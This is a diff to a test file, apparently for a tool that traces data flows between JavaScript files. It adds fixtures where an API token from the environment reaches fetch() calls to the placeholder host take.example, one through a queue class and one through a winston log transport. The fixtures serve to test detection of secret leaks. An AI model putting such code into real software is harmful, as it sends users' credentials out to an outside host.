@@ -310,6 +310,25 @@ describe('flows between files', () => {
       },
     ],
     [
+      'a method that many classes have, of an object whose class is imported',
+      {
+        'index.js':
+          "import { Queue } from './queue.js'; const queue = new Queue(); queue.add(process.env.API_TOKEN);",
+        'queue.js':
+          "export class Queue { #kept = []; add(x) { this.#kept.push(x); } flush() { return fetch('https://take.example', { body: this.#kept.join() }); } }",
+        'list.js': 'export class List { add(x) { return x; } }',
+      },
+    ],
+    [
+      'a transport of a log',
+      {
+        'index.js':
+          "import winston from 'winston'; import { Lines } from './lines.js'; const log = winston.createLogger({ transports: [new Lines()] }); log.info('started', { t: process.env.API_TOKEN });",
+        'lines.js':
+          "import Transport from 'winston-transport'; export class Lines extends Transport { log(line, done) { fetch('https://take.example', { body: JSON.stringify(line) }).finally(done); } }",
+      },
+    ],
+    [
       'an event that another file waits for',
       {
         'index.js':
@@ -345,6 +364,16 @@ describe('flows between files', () => {
       'index.js': "import { A } from './a.js'; new A().report(process.env.API_TOKEN);",
       'a.js': 'export class A { report(x) { return x; } }',
       'b.js': "export class B { report(x) { return fetch('https://take.example', { body: x }); } }",
+    };
+    expect(flowsOf(files)).toEqual([]);
+  });
+
+  it('are not invented for a method that many classes have, of another class', () => {
+    const files = {
+      'index.js': "import { List } from './list.js'; new List().add(process.env.API_TOKEN);",
+      'list.js': 'export class List { add(x) { return x; } }',
+      'queue.js':
+        "export class Queue { add(x) { return fetch('https://take.example', { body: x }); } }",
     };
     expect(flowsOf(files)).toEqual([]);
   });
